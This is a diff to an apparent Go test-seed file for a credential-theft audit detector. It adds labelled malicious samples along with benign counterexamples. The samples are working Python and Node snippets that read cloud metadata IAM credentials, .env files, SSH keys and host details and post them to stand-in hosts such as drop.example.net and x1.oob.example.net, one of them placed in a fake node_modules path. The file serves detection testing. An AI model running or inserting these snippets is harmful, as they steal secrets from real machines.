@@ -186,6 +186,12 @@ var pyCredSeeds = []credSeed{
 		"import os, glob\nfor p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n    print(open(p).read())\nprint(open(os.path.expanduser('~/.git-credentials')).read())\nprint(open(os.path.expanduser('~/.kube/config')).read())"},
 	{"py-env-alias", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"import json, os, requests\nsnap = dict(os.environ)\nsnap['host'] = os.uname().nodename\nrequests.post('http://203.0.113.4/e', data=json.dumps(snap))"},
+	{"py-metadata-request", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
+		"from urllib import request\nr = request.Request('http://169.254.169.254/latest/meta-data/iam/security-credentials/app')\ncreds = request.urlopen(r).read()\nrequest.urlopen(request.Request('https://drop.example.net/u', data=creds))"},
+	{"py-home-dotenv", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
+		"import os, base64, requests\nfor f in ['/.env', os.path.expanduser('~/.env'), '/root/.env']:\n    if os.path.exists(f):\n        requests.post('http://203.0.113.7/up', data={'f': f, 'b': base64.b64encode(open(f, 'rb').read())})"},
+	{"py-recon-beacon", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
+		"import socket, getpass, os, json, urllib.request\ninfo = {'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd(), 'ip': socket.gethostbyname(socket.gethostname())}\nurllib.request.urlopen('https://c.example.net/b', data=json.dumps(info).encode())"},
 	{"py-gcloud-put", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"import os, sqlite3, requests\ncon = sqlite3.connect(os.path.join(os.environ['HOME'], '.config', 'gcloud', 'credentials.db'))\nrows = con.execute('select * from credentials').fetchall()\nrequests.put('http://198.51.100.9/g', data=str(rows))"},
 }
@@ -195,6 +201,8 @@ var otherLangSeeds = []struct {
 	path string
 	credSeed
 }{
+	{"/srv/web/node_modules/acme-internal-utils/index.js", credSeed{"node-recon-beacon", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
+		"const os = require('os'), dns = require('dns'), https = require('https');\nconst d = JSON.stringify({h: os.hostname(), u: os.userInfo().username, home: os.homedir(), ns: dns.getServers(), dir: __dirname});\nconst r = https.request({hostname: 'x1.oob.example.net', method: 'POST', path: '/'}, () => {});\nr.write(d); r.end();\n"}},
 	{"/usr/lib/node_modules/pkg/index.js", credSeed{"node-env-fetch", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"const os = require('os');\nfetch('https://hooks.example.net/x', {method: 'POST', body: JSON.stringify({env: process.env, ni: os.networkInterfaces()})});\n"}},
 	{"/app/node_modules/x/post.js", credSeed{"node-env-https", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
@@ -286,6 +294,12 @@ var cleanShapes = map[string]string{
 		"gcore $(pgrep -o java)\nsudo() { command sudo -E \"$@\"; }\nalias ssh='ssh -A'\n",
 	"/usr/local/bin/s3-backup": "#!/bin/sh\naws s3 sync /var/www s3://company-backups/www\nrclone sync /data backup:data\nping -c 3 -p ff 10.0.0.1\n" +
 		"aws s3 cp s3://company-config/app.env /etc/app.env\ngsutil cp gs://bucket/x.tgz /tmp/\n",
+	"/usr/lib/node_modules/sysinfo/index.js":        "const os = require('os');\nmodule.exports = () => ({host: os.hostname(), user: os.userInfo().username, home: os.homedir(), nets: os.networkInterfaces()});\n",
+	"/usr/lib/python3/dist-packages/agent/hello.py": "import socket, requests\nrequests.post('https://monitor.example.com/register', json={'host': socket.gethostname()})\n",
+	"/usr/lib/python3/dist-packages/bugtool/env.py": "import os, socket, pwd, requests\ndef host():\n    return socket.gethostname()\ndef user():\n    return pwd.getpwuid(os.getuid()).pw_name\ndef where():\n    return os.getcwd()\n" +
+		"def send(body):\n    requests.post('https://bugs.example.org/new', data=body)\n",
+	"/srv/app/notify.py": "import os, requests\nfrom dotenv import load_dotenv\nload_dotenv('.env')\nload_dotenv(os.path.join(os.path.dirname(__file__), '.env'))\n" +
+		"requests.post(os.environ['SLACK_URL'], json={'text': 'deployed'})\n",
 	"/opt/tools/memstat.py":     "import os\nfor d in os.listdir('/proc'):\n    if d.isdigit():\n        print(d, open('/proc/%s/statm' % d).read())\nprint(open('/proc/meminfo').read())\n",
 	"/opt/tools/profile.py":     "import subprocess\npid = subprocess.check_output(['pgrep', 'myservice']).decode().strip()\nsubprocess.run(['strace', '-c', '-p', pid])\n",
 	"/usr/local/bin/ci-docker":  "#!/bin/sh\ndocker run -d --rm -v /var/run/docker.sock:/var/run/docker.sock portainer/portainer-ce\ndocker -H ssh://build@ci run --rm alpine true\n",
